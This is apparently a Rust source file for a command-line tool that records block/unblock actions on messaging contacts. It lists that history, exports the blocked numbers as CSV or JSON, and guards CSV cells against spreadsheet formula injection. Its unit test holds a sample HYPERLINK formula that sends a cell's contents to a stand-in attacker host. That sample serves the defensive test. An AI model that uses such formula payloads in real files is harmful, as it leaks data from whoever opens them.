//! `history`, `export` and `ledger status`: what the ledger holds,
//! without the network.

use std::collections::HashMap;

use serde_json::json;

use crate::cli::args::{ExportArgs, HistoryArgs};
use crate::cli::failure::{Failure, exit, fail};
use crate::cli::output::{JsonArray, Table};
use crate::engine::{Engine, skipped_notice};
use crate::model::change::Change;
use crate::model::number::{format_phone, phone_digits, shown_jid};
use crate::protocol::{ErrorInfo, Job, JobResult, LedgerRead};
use crate::store::ledger::{HistoryEntry, HistoryResult, KnownState, LedgerStatus};

/// Actions the history prints at most.
const HISTORY_LIMIT: usize = 1_000_000;

/// `history`: the ledger's actions, newest first, with the contact's name
/// from the saved contact list when there is one.
pub(crate) async fn history(mut engine: Engine, args: HistoryArgs) -> Result<(), Failure> {
    let instance = match &args.instance {
        Some(name) => Some(super::choose::instance_index(&engine, name)?),
        None => None,
    };
    let since = match &args.since {
        Some(day) => Some(crate::util::dates::day_start(day).map_err(|e| fail(exit::USAGE, e))?),
        None => None,
    };
    let (entries, contests) = read_history(&mut engine, instance, since).await?;
    let names = cached_names(&engine, &entries, &contests);
    let name_of = |instance: &str, jid: &str| names.get(instance)?.get(jid).cloned();
    let mut json_out = args.json.then(JsonArray::stdout).transpose()?;
    let mut table = (!args.json).then(Table::stdout);
    for e in &entries {
        let name = name_of(&e.instance, &e.jid);
        let action = Change::of(e.block).verb();
        let digits = phone_digits(&e.jid);
        let (error, count) = match &e.result {
            HistoryResult::Failed(why) => (Some(why.as_str()), None),
            HistoryResult::Done(count) => (None, *count),
            HistoryResult::Unanswered => (None, None),
        };
        if let Some(out) = json_out.as_mut() {
            out.push(&json!({
                "at": crate::util::dates::rfc3339(e.requested_at),
                "instance": e.instance,
                "jid": e.jid,
                "lid": e.lid,
                "e164": digits.map(|d| format!("+{d}")),
                "number": shown_jid(&e.jid),
                "name": name,
                "action": action,
                "result": e.result.word(),
                "blocked_count": count,
                "error": error,
                "operator": e.operator,
                "reason": e.reason,
            }))?;
        } else if let Some(t) = table.as_mut() {
            t.row(&[
                crate::util::dates::rfc3339(e.requested_at).as_str(),
                &e.instance,
                &shown_jid(&e.jid),
                name.as_deref().unwrap_or("-"),
                action,
                e.result.word(),
                error.unwrap_or(""),
                e.operator.as_deref().unwrap_or("-"),
                e.reason.as_deref().unwrap_or("-"),
            ])?;
        }
    }
    if let Some(out) = json_out {
        out.finish()?;
    }
    if let Some(t) = table {
        t.finish()?;
    }
    if entries.is_empty() && !args.json {
        crate::cli::output::say(&format!(
            "no action recorded{}",
            match &args.since {
                Some(day) => format!(" since {day}"),
                None => String::new(),
            }
        ));
    }
    Ok(())
}

/// What the ledger says of contacts two desks' answers contest, by
/// (instance, JID): `desk-a blocked, desk-b unblocked 2 s apart`.
type Contests = HashMap<(String, String), String>;

/// The ledger's actions (of one instance or all, since a time), newest
/// first, and the contests of their contacts; rows it skipped are said
/// on stderr.
async fn read_history(
    engine: &mut Engine,
    instance: Option<usize>,
    since: Option<i64>,
) -> Result<(Vec<HistoryEntry>, Contests), Failure> {
    let read = LedgerRead::History {
        instance,
        since,
        limit: HISTORY_LIMIT,
    };
    let answer = engine
        .ask(Job::Read(read), |r| matches!(r, JobResult::History { .. }))
        .await;
    let JobResult::History { result, .. } = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    let (entries, skipped) = result.map_err(unread)?;
    if let Some(notice) = skipped_notice(skipped) {
        crate::cli::output::say(&notice);
    }
    let known = engine
        .ask(Job::Read(LedgerRead::Known), |r| {
            matches!(r, JobResult::Known(_))
        })
        .await;
    let contests = match known {
        JobResult::Known(Ok(Some(known))) => known
            .into_iter()
            .filter_map(|k| Some(((k.instance, k.jid), k.contest?)))
            .collect(),
        _ => Contests::new(),
    };
    Ok((entries, contests))
}

/// A ledger that could not be read.
fn unread(e: ErrorInfo) -> Failure {
    fail(exit::INTERNAL, e.summary())
}

/// The names of each instance's numbers in `entries`, from its saved
/// contact list (no network), found in one pass over it; a contested
/// contact's with the contest after it.
fn cached_names<'a>(
    engine: &'a Engine,
    entries: &[HistoryEntry],
    contests: &Contests,
) -> HashMap<&'a str, HashMap<String, String>> {
    let mut names = HashMap::new();
    let data_dir = engine.data_dir();
    for inst in &engine.profile().instances {
        let jids: Vec<&str> = entries
            .iter()
            .filter(|e| e.instance == inst.name)
            .map(|e| e.jid.as_str())
            .collect();
        if jids.is_empty() {
            continue;
        }
        let path = crate::store::cache::path_for(data_dir, inst.base_url.as_str(), &inst.name);
        if let Ok(Some((store, _))) = crate::store::cache::load(&path) {
            names.insert(inst.name.as_str(), store.names_of(jids));
        }
    }
    // A contested contact says so beside its name.
    for ((instance, jid), contest) in contests {
        let Some(inst) = engine
            .profile()
            .instances
            .iter()
            .find(|i| &i.name == instance)
        else {
            continue;
        };
        let of = names.entry(inst.name.as_str()).or_default();
        let name = of.get(jid).map_or("not in contacts", String::as_str);
        let named = format!("{name} · contested: {contest}");
        of.insert(jid.clone(), named);
    }
    names
}

/// `export`: the numbers the ledger knows as blocked, as CSV or JSON.
pub(crate) async fn export(mut engine: Engine, args: ExportArgs) -> Result<(), Failure> {
    if let Some(name) = &args.instance {
        super::choose::instance_index(&engine, name)?;
    }
    let answer = engine
        .ask(Job::Read(LedgerRead::Known), |r| {
            matches!(r, JobResult::Known(_))
        })
        .await;
    let JobResult::Known(known) = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    // The ledger's first read in this run is always whole.
    let known = known.map_err(unread)?.unwrap_or_default();
    let order = |name: &str| super::choose::instance_index(&engine, name).unwrap_or(usize::MAX);
    let mut rows: Vec<KnownState> = known
        .into_iter()
        .filter(|k| k.blocked && args.instance.as_ref().is_none_or(|n| &k.instance == n))
        .collect();
    rows.sort_by(|a, b| (order(&a.instance), &a.jid).cmp(&(order(&b.instance), &b.jid)));
    if args.json {
        let mut out = JsonArray::stdout()?;
        for k in &rows {
            out.push(&json!({
                "instance": k.instance,
                "jid": k.jid,
                "lid": k.lid,
                "e164": phone_digits(&k.jid).map(|d| format!("+{d}")),
                "number": phone_digits(&k.jid).map(format_phone),
                "changed_at": crate::util::dates::rfc3339(k.changed_at),
                "operator": k.operator,
                "reason": k.reason,
            }))?;
        }
        out.finish()?;
        return Ok(());
    }
    let mut out = crate::cli::output::lines(1 << 16);
    out.punct("instance,jid,lid,e164,number,changed_at,operator,reason\n")?;
    for k in rows {
        let digits = phone_digits(&k.jid);
        out.line(&format!(
            "{},{},{},{},{},{},{},{}",
            csv_cell(&k.instance),
            csv_cell(&k.jid),
            csv_cell(k.lid.as_deref().unwrap_or_default()),
            csv_cell(&digits.map(|d| format!("+{d}")).unwrap_or_default()),
            csv_cell(&digits.map(format_phone).unwrap_or_default()),
            csv_cell(&crate::util::dates::rfc3339(k.changed_at)),
            csv_cell(k.operator.as_deref().unwrap_or_default()),
            csv_cell(k.reason.as_deref().unwrap_or_default())
        ))?;
    }
    out.flush()?;
    Ok(())
}

/// `ledger status`: which ledger, its schema, size and counts.
pub(crate) async fn status(mut engine: Engine, json_out: bool) -> Result<(), Failure> {
    let answer = engine
        .ask(Job::Read(LedgerRead::Status), |r| {
            matches!(r, JobResult::Status(_))
        })
        .await;
    let JobResult::Status(st) = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    let st: LedgerStatus = st.map_err(unread)?;
    if json_out {
        crate::cli::output::json(&st)?;
        return Ok(());
    }
    let mut table = Table::stdout();
    let rows = [
        ("ledger", format!("{} {}", st.backend, st.location)),
        (
            "schema",
            format!(
                "{} (this build knows up to {})",
                st.schema, st.newest_schema
            ),
        ),
        ("size", format!("{:.1} KiB", st.bytes as f64 / 1024.0)),
        ("requests", st.actions.to_string()),
        ("known blocked", st.blocked.to_string()),
        ("unfinished batches", st.open_batches.to_string()),
    ];
    for (what, value) in &rows {
        table.row(&[*what, value.as_str()])?;
    }
    table.finish()?;
    Ok(())
}

/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'` so it stays text, and any cell
/// so changed, or holding a comma, quote or line break, is quoted with
/// its quotes doubled.
pub fn csv_cell(field: &str) -> String {
    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    // No control character or escape reaches whoever opens the file.
    let field = crate::util::sanitize::clean(field);
    let field = if formula {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if formula || field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_run_as_formulas() {
        assert_eq!(csv_cell("sales"), "sales");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
        );
        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            let cell = csv_cell(risky);
            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
        }
        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
        assert_eq!(
            csv_cell("1\x1b[2J\x07@lid"),
            "1[2J@lid",
            "escapes never reach the file"
        );
    }
}
